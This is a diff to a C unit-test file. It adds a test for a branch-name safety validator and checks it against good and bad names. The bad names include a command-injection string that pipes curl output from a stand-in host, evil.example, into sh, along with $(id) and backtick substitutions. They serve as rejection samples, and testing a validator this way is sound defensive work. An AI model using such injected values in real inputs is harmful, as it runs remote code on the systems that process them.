@@ -167,6 +167,42 @@ test_str_terminal_safe(void **state)
 }
 
 static void
+test_str_branch_safe(void **state)
+{
+	static const char *const good[] = { "main",
+		                            "feat/x",
+		                            "release/1.2",
+		                            "fix/clippy-01234567",
+		                            "dependabot/npm_and_yarn/lodash-4.17.21",
+		                            "a+b",
+		                            "caf\xc3\xa9" };
+	static const char *const bad[] = {
+		"",      "-x",      ".x",     "/x",
+		"x/",    "x.",      "x.lock", "a.lock/b",
+		"a..b",  "a//b",    "a/.b",   "zz\";curl${IFS}-sSfL${IFS}evil.example|sh;#",
+		"a b",   "a`id`",   "a$(id)", "a;b",
+		"a|b",   "a&b",     "a'b",    "a~1",
+		"a^",    "a:b",     "a?",     "a*",
+		"a[1]",  "a\\b",    "a@{1}",  "a\nb",
+		"a\x7f", "bad\xc3", "a#b"
+	};
+	char big[1100];
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(good) / sizeof(good[0]); i++)
+		assert_true(hl_str_branch_safe(good[i]));
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
+		assert_false(hl_str_branch_safe(bad[i]));
+	assert_false(hl_str_branch_safe(NULL));
+	memset(big, 'b', sizeof(big) - 1);
+	big[sizeof(big) - 1] = '\0';
+	assert_false(hl_str_branch_safe(big));
+	big[1024] = '\0';
+	assert_true(hl_str_branch_safe(big));
+}
+
+static void
 test_str_github_repo_valid_follows_github(void **state)
 {
 	char owner40[64], repo101[128], name[256];
@@ -297,6 +333,7 @@ main(void)
 		cmocka_unit_test(test_str_ct_equal_compares_content_and_length),
 		cmocka_unit_test(test_str_split_list_trims_and_drops_empty),
 		cmocka_unit_test(test_str_label_value_sanitises),
+		cmocka_unit_test(test_str_branch_safe),
 		cmocka_unit_test(test_str_github_repo_valid_follows_github),
 		cmocka_unit_test(test_str_terminal_safe),
 		cmocka_unit_test(test_str_k8s_names_follow_dns1123),
